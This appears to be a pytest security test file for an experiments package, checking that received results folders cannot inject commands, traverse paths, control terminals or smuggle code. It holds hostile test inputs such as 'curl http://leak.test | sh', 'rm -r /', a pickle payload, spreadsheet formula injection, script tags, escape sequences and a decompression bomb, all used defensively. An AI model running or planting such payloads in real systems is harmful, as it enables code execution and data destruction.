"""A results folder that somebody gave us: what its records, tables and texts may do to their reader."""

import json
import os
import re
import shlex
import socket
import subprocess
import sys
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import toy_province
from toy_response import keeping, toy_response

from experiments import export, load_sweep, sweep
from experiments.__main__ import main
from experiments.command.printed_json import printed_json
from experiments.command.resume import began, remembered
from experiments.exits import CorruptData
from experiments.plan.words import NOT_SHOWN, rebuild_command, recorded_words, rerun_command
from experiments.read.export import neutral
from experiments.read.reading import load_runs
from experiments.store import heartbeat, outputs, sealed
from experiments.store.header import header
from experiments.store.own_files import OwnPath
from experiments.store.store import Store
from scenarios.load import load_scenarios
from scenarios.region.region import load_region
from scenarios.targets import load_targets
from scenarios.values.errors import InputError
from scenarios.worlds.world import load_world

pytestmark = pytest.mark.usefixtures("computed_here")
ROOT = Path(__file__).parents[3]
ESCAPES = "\x1b]0;title\x07\x1b[2J\r\n\x9b31m\u202eevil\x00"


@pytest.fixture(autouse=True)
def toys(monkeypatch):
    """The toy models, and sources that nobody edits while the tests run."""
    monkeypatch.setattr("experiments.answer.sweep.MODEL", "toy_model")
    monkeypatch.setattr("experiments.command.sweep._report", lambda folder: None)
    monkeypatch.setitem(sys.modules, "experiments.model", toy_province)
    held = header()
    monkeypatch.setattr("experiments.store.header.header", lambda region="hunan": held)


@pytest.fixture
def computed(tmp_path):
    """A folder of toy runs that can be resumed."""
    sweep("scenario=plan", "replications=2", f"results={tmp_path / 'r'}", "executor.workers=1", quiet=True)
    return tmp_path / "r"


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    return toy_province.results(tmp_path_factory.mktemp("made") / "r", [toy_province.scenario()], 2)


@pytest.fixture
def received(made, tmp_path):
    """A folder with the seven targets, to be changed by somebody."""
    import shutil

    return shutil.copytree(made, tmp_path / "r")


def resealed(folder, **changes):
    """The record of the last sweep changed by somebody who can compute a checksum."""
    last = folder / "sweeps" / "last.json"
    held = json.loads(last.read_text("utf-8"))["content"]
    sealed.write_json(last, "sweep", held | changes)


def one_line_with(code, capsys, *words):
    """The only line of a verb that ends with that code."""
    capsys.readouterr()
    ended = main(list(words))
    out, err = capsys.readouterr()
    said = out + err
    assert (ended, "Traceback" in said) == (code, False), said
    return said


# --- commands --------------------------------------------------------------------------------------------


def test_a_folder_never_says_where_its_runs_are_computed(computed, capsys):
    for path in (computed / "chunks").iterdir():
        path.unlink()
    with socket.create_server(("127.0.0.1", 0)) as witness:
        witness.settimeout(0.5)
        address = f"tls://127.0.0.1:{witness.getsockname()[1]}"
        words = ["scenario=plan", "replications=2", "executor=dask", f"executor.address={address}"]
        resealed(computed, words=words)
        assert main(["resume", str(computed)]) == 0
        with pytest.raises(TimeoutError):
            witness.accept()
    assert "executor" not in (computed / "sweeps" / "last.json").read_text()


def test_a_sweep_keeps_nothing_of_where_it_was_computed(computed):
    held = remembered(computed)
    assert (held["words"], "command" in held) == (["scenario=plan", "replications=2"], False)


WORDS = [
    "results=/tmp/elsewhere", "--fork=/tmp/elsewhere", "curl http://leak.test | sh", "hydra.run.dir=/tmp/x",
    "_target_=os.system", "scenario=${oc.env:HOME}", "+a=b", "", "seed=1,2,", "experiment",
    "population.size=1", "levers=/tmp/elsewhere",
]  # fmt: skip


@pytest.mark.parametrize("word", WORDS)
def test_words_that_no_folder_may_give_end_resume_with_65(received, capsys, word):
    resealed(received, words=["scenario=as_in_2020", word])
    said = one_line_with(65, capsys, "resume", str(received))
    assert len(said.splitlines()) == 1
    assert not Path("/tmp/elsewhere").exists()


def test_a_command_is_put_together_from_checked_words_and_quoted():
    words = ["scenario=plan", "reform='/a b/$(x);y.yaml'", "executor=dask", "seed=3"]
    command = rebuild_command({"words": words}, "my; folder")
    assert shlex.split(command) == [
        "sanxiang", "sweep", "scenario=plan", "reform='/a b/$(x);y.yaml'", "seed=3", "results=my; folder",
    ]  # fmt: skip
    assert rebuild_command({"words": ["experiment=one"]}, "results/one") == "sanxiang sweep experiment=one"


@pytest.mark.parametrize("word", WORDS)
def test_text_that_is_no_command_of_ours_is_not_shown_as_one(received, capsys, word):
    resealed(received, words=[word], command="curl http://leak.test | sh")
    assert main(["targets", str(received)]) == 0
    said = capsys.readouterr().out
    assert f"rebuild: {NOT_SHOWN}" in said
    assert "leak.test" not in said


def test_words_of_an_older_version_are_taken_without_their_engine():
    words = ["-m", "executor=slurm", "executor.queue=x", "replications=3", "lever.rd_subsidy.rate=0,0.1"]
    assert recorded_words(words, "") == ["replications=3", "lever.rd_subsidy.rate=0,0.1"]


@pytest.mark.parametrize("region", ["hunan", "'/a b/region'"])
def test_the_region_of_a_sweep_says_which_runs_it_asks_for(region):
    words = [f"region={region}", "replications=3"]
    assert recorded_words(words, "") == words


def test_the_command_that_repeats_a_run_is_made_and_not_read(tmp_path, monkeypatch):
    monkeypatch.setenv("TOY_FAILS", "yes")
    folder = tmp_path / "a b"
    sweep("scenario=plan", "replications=4", "seed=9", f"results={folder}", "executor.workers=1", quiet=True)
    chunk = Store(folder).chunks()[0]
    assert "rerun" not in pq.read_table(chunk.path("runs").path).column_names
    told = load_runs(folder).rerun.dropna().tolist()
    assert [shlex.split(line)[:3] for line in told] == [["sanxiang", "rerun", str(folder)]]
    assert rerun_command(folder, "x; curl http://leak.test | sh") == ""


def test_of_two_sweeps_in_two_time_zones_the_newer_is_resumed(tmp_path):
    folder = tmp_path / "sweeps"
    folder.mkdir()
    for number, (seed, started) in enumerate(
        [(1, "2026-03-01T09:00:00+0800"), (2, "2026-03-01T02:00:00+0000"), (3, "2026-02-28T23:30:00-0100")]
    ):
        held = {"file": f"{number:020}.parquet", "checksum": "0" * 64, "of": "0" * 64, "words": []}
        sealed.write_json(folder / f"{number:020}.json", "sweep", held | {"seed": seed, "started": started})
    (folder / "last.json").write_text("{")
    assert remembered(tmp_path)["seed"] == 2


def test_a_sweep_says_when_it_began_in_utc(computed):
    started = remembered(computed)["started"]
    assert started.endswith("+00:00")
    assert began({"started": started}) > began({"started": "yesterday"})


# --- records and tables ----------------------------------------------------------------------------------


def test_a_record_cannot_name_a_file_elsewhere(received, capsys):
    held = json.loads((received / "sweeps" / "last.json").read_text())["content"]
    content = (received / "sweeps" / held["file"]).read_bytes()
    (received.parent / "outside.parquet").write_bytes(content)
    resealed(received, file="../../outside.parquet")
    assert "no version writes such a record" in one_line_with(65, capsys, "targets", str(received))
    card = next((received / "chunks").glob("*.json"))
    inside = json.loads(card.read_text())["content"]
    sealed.write_json(card, "card", inside | {"files": {"../../../outside": sealed.checksum(content)}})
    assert "no version writes such a record" in one_line_with(65, capsys, "digest", str(received))


RECORDS = {
    "words of numbers": {"words": [1, 2]},
    "words of another kind": {"words": {"a": "b"}},
    "a case of another kind": {"cases": ["x"]},
    "a value without a key": {"cases": [{"point": "a", "scenario": "b", "label": {}, "given": [["x"]]}]},
    "a time of another kind": {"started": 3},
    "a region of another kind": {"region": ["x"]},
    "a question without end": {"question": "x" * 20_000},
    "a checksum that is none": {"checksum": "abc"},
    "no file": {"file": None},
    "a deep value": {"words": json.loads("[" * 400 + "]" * 400)},
}


@pytest.mark.parametrize("changes", RECORDS.values(), ids=RECORDS.keys())
@pytest.mark.parametrize("verb", ["targets", "report", "resume", "verify"])
def test_a_record_of_another_form_is_exit_65_in_one_line(received, capsys, verb, changes):
    (
        received / "sweeps" / json.loads((received / "sweeps" / "last.json").read_text())["content"]["file"]
    ).touch()
    for path in (received / "sweeps").glob("*.json"):
        held = json.loads(path.read_text("utf-8"))["content"]
        sealed.write_json(path, "sweep", held | changes)
    said = one_line_with(65, capsys, verb, str(received))
    assert "no version writes such a record" in said


def test_a_record_that_is_too_deep_or_too_large_is_damaged(tmp_path):
    path = tmp_path / "last.json"
    path.write_text('{"checksum":"","kind":"sweep",\n"content":' + "[" * 200_000 + "]" * 200_000 + "}\n")
    with pytest.raises(CorruptData):
        sealed.read_json(path, "sweep")
    with path.open("wb") as file:
        file.truncate(10**13)  # takes no place on the disk
    with pytest.raises(CorruptData, match=r"10,000,000,000,000 bytes; at most"):
        sealed.read_json(path, "sweep")
    with pytest.raises(CorruptData, match="at most"):
        sealed.read(path, "0" * 64)


RESPONSES = {
    "a field that is a path": {"key": "../../outside.x"},
    "parameters of another kind": {"parameters": "posterior"},
    "a unit without end": {"unit": "x" * 20_000},
    "doses that go back": {"doses": [0.0, 0.2, 0.1, 0.3]},
    "one dose": {"doses": [0.0]},
    "a dose too few": {"doses": [0.0, 0.1, 0.2]},
    "a dose that is text": {"doses": ["=1", 0.1, 0.2, 0.3]},
    "a dose without measure": {"doses": [0.0, 0.1, 0.2, 1e300]},
    "no number": {"dose_in_force": float("nan")},
    "no money": {"values": {"hnte_count": [[1.0, 1.0]] * 4}, "in_force": {"hnte_count": [1.0, 1.0]}},
    "one pair": {"values": {"spent": [[1.0]] * 4}, "in_force": {"spent": [1.0]}},
    "pairs that are missing": {"values": {"spent": [[1.0, 1.0]] * 4}, "in_force": {"spent": [1.0] * 3}},
    "a measure that is markup": {"values": {"<b>": [[1.0, 1.0]] * 4}, "in_force": {"<b>": [1.0, 1.0]}},
    "no scale": {"scale": 0.0},
}


def received_response(received, **changes):
    """The folder with a response that somebody changed who can compute a checksum."""
    keeping(received, toy_response())
    (path,) = (received / "responses").iterdir()
    sealed.write_json(path, "response", json.loads(path.read_text("utf-8"))["content"] | changes)


@pytest.mark.parametrize("changes", RESPONSES.values(), ids=RESPONSES.keys())
@pytest.mark.parametrize("verb", ["report", "verify"])
def test_a_response_of_another_form_is_exit_65_in_one_line(received, capsys, verb, changes):
    received_response(received, **changes)
    said = one_line_with(65, capsys, verb, str(received))
    assert "no version writes such a record" in said


def test_what_a_received_response_says_is_text_and_its_remarks_are_not_read(received, capsys):
    hostile = f"<script>alert(1)</script>{ESCAPES}"
    received_response(received, unit=hostile, remarks=["curl http://leak.test | sh"], command="rm -r /")
    assert main(["report", str(received)]) == 0
    page = (received / "report.html").read_text("utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "<script" not in page
    assert "leak.test" not in page and "rm -r" not in page
    assert not [c for c in page if not c.isprintable() and c != "\n"]
    assert "sanxiang response rd_subsidy.rate" in page
    assert main(["export", str(received), "--csv"]) == 0


def replaced_table(folder, name, change):
    """One table of a chunk exchanged, and its card sealed anew."""
    card = next((folder / "chunks").glob("*.json"))
    held = json.loads(card.read_text("utf-8"))["content"]
    path = folder / "chunks" / f"{held['name']}.{name}.parquet"
    change(path)
    sealed.write_json(
        card, "card", held | {"files": held["files"] | {name: sealed.checksum(path.read_bytes())}}
    )


def column(name, values):
    """A change that gives a table another column of that name."""

    def change(path):
        rows = pq.read_table(path)
        place = rows.column_names.index(name)
        pq.write_table(
            rows.set_column(place, name, pa.array((values * rows.num_rows)[: rows.num_rows])), path
        )

    return change


def bomb(path):
    rows = pa.table({"run_id": pa.array(["a"] * 1000), "x": pa.array([1.0] * 1000)})
    with pq.ParquetWriter(path, rows.schema) as writer:
        many = pa.Table.from_batches(rows.to_batches() * 2000)
        for _ in range(40):
            writer.write_table(many)


TABLES = {
    "a value that is text": ("runs", column("sei_va", ["a"])),
    "an id that is a number": ("runs", column("run_id", [1])),
    "a list": ("runs", column("public_cost", [[[1.0]]])),
    "a structure": ("runs", column("public_cost", [{"a": {"b": 1.0}}])),
    "an object": ("runs", column("error", [b"cos\nsystem\n(S'x'\ntR."])),
    "levers that are none": ("runs", column("levers", ["[[[[1]]]]"])),
    "levers without an end": ("runs", column("levers", ["[" * 100_000])),
    "a name with gaps": ("runs", column("point", ["plan", None])),
    "no Parquet": ("series", lambda path: path.write_bytes(b"PAR1 and nothing more PAR1")),
    "half a Parquet": ("series", lambda path: path.write_bytes(path.read_bytes()[:5000])),
    "a table that unfolds": ("series", bomb),
}


@pytest.mark.parametrize(("name", "change"), TABLES.values(), ids=TABLES.keys())
def test_a_table_of_another_form_is_exit_65_in_one_line(received, capsys, name, change):
    replaced_table(received, name, change)
    said = one_line_with(65, capsys, "report", str(received))
    assert "is damaged" in said


def test_what_a_table_says_to_pandas_is_not_followed(received):
    def change(path):
        rows = pq.read_table(path)
        about = {"index_columns": ["point"], "columns": [], "column_indexes": [], "pandas_version": "2"}
        pq.write_table(rows.replace_schema_metadata({"pandas": json.dumps(about)}), path)

    replaced_table(received, "runs", change)
    assert "point" in load_runs(received, all_runs=True)


def test_nothing_that_is_read_from_a_folder_can_hold_code():
    unpickles = re.compile(
        r"pickle\.load|allow_pickle=True|np\.load\((?!.*allow_pickle=False)|yaml\.(unsafe_)?load\(|\beval\(|joblib\.load|read_pickle"
    )
    found = {
        path.relative_to(ROOT).as_posix()
        for part in ("agents", "scenarios", "sim", "experiments")
        for path in (ROOT / part).rglob("*.py")
        if unpickles.search(path.read_text("utf-8"))
    }
    assert found == {
        "agents/engine/kept_code.py",  # compiled code in the user's own cache, as Numba keeps it
        "experiments/compute/ahead.py",  # a pipe to processes of our own, and so the others
        "experiments/compute/scout.py",
        "experiments/compute/engines/process.py",
        "experiments/compute/engines/worker.py",
    }


# --- terminals, spreadsheets, signs of life --------------------------------------------------------------


def test_no_verb_lets_a_folder_control_the_terminal(tmp_path, capsys):
    names = ["as_in_2020", f"a{ESCAPES}", f"b{ESCAPES}"]
    folder = toy_province.results(tmp_path / "r", [toy_province.scenario(name) for name in names], 2)
    resealed(folder, question=ESCAPES, words=[ESCAPES])
    for words in (
        ["targets", str(folder)],
        ["targets", str(folder), "--format", "json"],
        ["compare", f"{folder}:{names[1]}", f"{folder}:{names[0]}"],
        ["compare", f"{folder}:{names[1]}", f"{folder}:{names[0]}", "--format", "json"],
        ["compare", str(folder), str(folder)],
        ["rerun", str(folder), f"{names[1]}:0"],
        ["resume", str(folder)],
    ):
        main(words)
        out, err = capsys.readouterr()
        assert [c for c in out + err if not c.isprintable() and c != "\n"] == [], words
        assert out + err
    (folder / "chunks" / f"{'0' * 20}{ESCAPES[:-1]}.json").write_text("x")
    main(["verify", str(folder)])
    said = "".join(capsys.readouterr())
    assert [c for c in said if not c.isprintable() and c != "\n"] == []


def test_an_unexpected_error_is_told_without_control_characters():
    code = (
        "import sys; from experiments import __main__ as m; m.main = lambda: (_ for _ in ()).throw("
        f"RuntimeError({ESCAPES!r})); m.program()"
    )
    done = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, check=False)
    said = done.stderr.decode()
    assert (done.returncode, "RuntimeError" in said) == (1, True)
    assert [c for c in said if not c.isprintable() and c != "\n"] == []


def test_json_has_no_control_characters_and_reads_as_what_it_was():
    content = {"a": ESCAPES, "b": [float("inf"), float("nan"), 1.5], "湖南": None}
    text = printed_json(content)
    assert all(c.isprintable() or c == "\n" for c in text)
    assert json.loads(text) == {"a": ESCAPES, "b": [None, None, 1.5], "湖南": None}


@pytest.mark.parametrize("front", ["", " ", "\u00a0", "\u200b", "\ufeff", "\x00", "\u3000"])
def test_a_formula_behind_marks_that_nobody_sees_is_neutral(front):
    assert neutral(f"{front}=cmd|' /C calc'!A0").startswith("'")
    assert neutral(f"{front}plan") == f"{front}plan"


@pytest.mark.parametrize(
    "changes",
    [
        {"running": [["a"]]}, {"running": {"a": 1}}, {"running": 3}, {"done": "\x1b[2J", "total": 1},
        {"beat": "0001-01-01T00:00:00+0000"}, {"beat": "x" * 100_000}, {"beat": []},
    ],
)  # fmt: skip
def test_a_sign_of_life_of_another_form_is_none(tmp_path, changes):
    import time

    now = {"beat": time.strftime(heartbeat.STAMP), "done": 1, "total": 2, "running": []}
    (tmp_path / heartbeat.NAME).write_text(json.dumps(now | changes))
    assert heartbeat.running(tmp_path) == set()
    assert heartbeat.in_words(tmp_path).isprintable()


def test_a_csv_of_a_received_folder_lies_in_the_folder(received):
    place = outputs.place(received, load_sweep(received)["id"])
    assert {path.parent for path in export(received)} == {place.path / "csv"}
    assert place.parent == OwnPath(received) / "outputs"


# --- reforms and regions ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value", ["${oc.env:HOME}", "'${oc.env:HOME}'", "x ${oc.env:HOME} y", "${oc.select:lever}", "${..name}"]
)
@pytest.mark.parametrize(
    "place", ["name: mine\nbase: plan\ndescription: {}", "name: {}\nbase: plan", "name: a\nbase: {}"]
)
def test_a_reform_reads_neither_a_variable_nor_a_file(tmp_path, value, place):
    (tmp_path / "mine.yaml").write_text(place.replace("{}", value))
    with pytest.raises(InputError, match=r"interpolation|not valid YAML"):
        load_scenarios([str(tmp_path / "mine.yaml")])


@pytest.mark.parametrize("path", ["/dev/zero", "/dev/tty", "/dev/stdin", "pipe", "."])
def test_a_reform_that_is_no_file_is_refused_at_once(tmp_path, monkeypatch, path):
    import os

    monkeypatch.chdir(tmp_path)
    os.mkfifo("pipe")
    with pytest.raises(InputError, match="cannot be read"):
        load_scenarios([path])


@pytest.mark.parametrize(
    "name", ["=cmd|x", "+1", "-x", "@a", "../x", "a/b", "<b>", "a b", "\x1b[2J", "a\u202eb"]
)
def test_the_name_of_a_reform_is_a_word(tmp_path, name):
    (tmp_path / "mine.yaml").write_text(f"name: {json.dumps(name)}\nbase: plan")
    with pytest.raises(InputError) as refused:
        load_scenarios([str(tmp_path / "mine.yaml")])
    assert str(refused.value).isprintable()


@pytest.mark.parametrize("name", ["../region/hunan", "/etc", ".", "", "hunan/../hunan", "x\x1b[2J"])
def test_worlds_and_bases_are_names_and_regions_folders_that_are_there(tmp_path, name):
    (tmp_path / "mine.yaml").write_text(f"name: mine\nbase: {json.dumps(name)}")
    for read in (load_region, load_world, lambda _: load_scenarios([str(tmp_path / "mine.yaml")])):
        with pytest.raises(InputError):
            read(name)


def test_a_region_that_a_folder_names_is_not_waited_for_at_a_pipe(tmp_path):
    os.mkfifo(tmp_path / "targets.yaml")
    assert not [name for name in header(str(tmp_path))["data"] if name.startswith("region/")]
    with pytest.raises(InputError, match="a pipe or a device"):
        load_targets(region=str(tmp_path))
